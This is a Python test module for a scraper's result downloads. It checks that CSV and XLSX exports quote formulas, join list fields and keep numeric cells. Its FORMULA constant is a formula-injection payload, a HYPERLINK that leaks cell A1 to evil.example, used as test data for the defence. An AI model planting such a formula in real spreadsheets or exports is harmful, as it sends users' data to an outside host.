"""Result downloads as spreadsheets open them: formulas neutralised, lists joined, numbers kept."""

from __future__ import annotations

import csv
import io
from typing import Any
from urllib.parse import urlencode

import httpx
from openpyxl import load_workbook

from tests.api.conftest import ApiUser, error_of, start_run, wait_finished
from tests.engine.conftest import bot, node
from tests.worker.conftest import Processes
from trawler.demo_site import DemoSite

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


def spreadsheet_bot(site: DemoSite) -> dict[str, Any]:
    """Two rows whose text is "-5" (a number only once a transform made it one), then a row
    whose list holds two formulas."""
    minus = urlencode({"text": "-5", "times": 1, "tail": "", "items": 2})
    formula = urlencode({"text": FORMULA, "times": 1, "tail": "", "items": 2})
    return bot(
        node("open", "navigate", url=f"{site.base_url}/lab/repeat?{minus}"),
        node(
            "numbers",
            "extract",
            item_selector="li.long",
            fields=[
                {"name": "raw", "selector": None},
                {"name": "num", "selector": None, "transforms": ["number"]},
                {"name": "n", "selector": None, "value": "attr:data-n"},
            ],
        ),
        node("formulas", "navigate", url=f"{site.base_url}/lab/repeat?{formula}"),
        node(
            "lists",
            "extract",
            item_selector="ul.longs",
            fields=[{"name": "cells", "selector": "li", "many": True}],
        ),
        renderer="http",
    )


async def _csv(client: httpx.AsyncClient, execution_id: str, **params: str) -> list[list[str]]:
    answer = await client.get(
        f"/executions/{execution_id}/result", params={"format": "csv", **params}
    )
    assert answer.status_code == 200, answer.text
    return list(csv.reader(io.StringIO(answer.text)))


async def _xlsx(client: httpx.AsyncClient, execution_id: str, **params: str) -> list[Any]:
    answer = await client.get(
        f"/executions/{execution_id}/result", params={"format": "xlsx", **params}
    )
    assert answer.status_code == 200, answer.text
    return list(load_workbook(io.BytesIO(answer.content))["rows"].iter_rows())


async def test_spreadsheet_downloads_neutralise_formulas_and_join_lists(
    new_user: ApiUser, processes: Processes, site: DemoSite
) -> None:
    processes.start("worker")
    client = await new_user()
    execution_id = await start_run(client, "cells", spreadsheet_bot(site))
    execution = await wait_finished(client, execution_id)
    assert execution["status"] == "succeeded", execution["error"]

    both = f"{FORMULA}; {FORMULA}"
    assert await _csv(client, execution_id) == [
        ["raw", "num", "n", "cells"],
        ["'-5", "-5.0", "1", ""],  # text "-5" is quoted; the number -5 is not
        ["'-5", "-5.0", "2", ""],
        ["", "", "", f"'{both}"],
    ]
    kept = await _csv(client, execution_id, formulas="keep", list_separator="\n")
    assert kept[1] == ["-5", "-5.0", "1", ""]
    assert kept[3] == ["", "", "", f"{FORMULA}\n{FORMULA}"]

    header, *rows = await _xlsx(client, execution_id)
    assert [c.value for c in header] == ["raw", "num", "n", "cells"]
    raw, num, n, _ = rows[0]
    assert (raw.value, raw.data_type, raw.quotePrefix) == ("-5", "s", True)
    assert (num.value, num.data_type) == (-5, "n")  # a number cell
    assert (n.value, n.data_type) == ("1", "s")
    cells = rows[2][3]
    assert (cells.value, cells.data_type, cells.quotePrefix) == (both, "s", True)  # no formula

    live = (await _xlsx(client, execution_id, formulas="keep"))[3][3]
    assert live.data_type == "f"  # asked for: the formula as scraped
    assert live.value == both


async def test_bad_download_options_are_refused(
    new_user: ApiUser, processes: Processes, site: DemoSite
) -> None:
    client = await new_user()
    execution_id = await start_run(client, "cells", spreadsheet_bot(site))
    for params, field in (
        ({"formulas": "evaluate"}, "query.formulas"),
        ({"list_separator": "x" * 11}, "query.list_separator"),
        ({"list_separator": ""}, "query.list_separator"),
    ):
        answer = await client.get(
            f"/executions/{execution_id}/result", params={"format": "csv", **params}
        )
        assert answer.status_code == 422, answer.text
        assert [d["field"] for d in error_of(answer)["details"]] == [field]
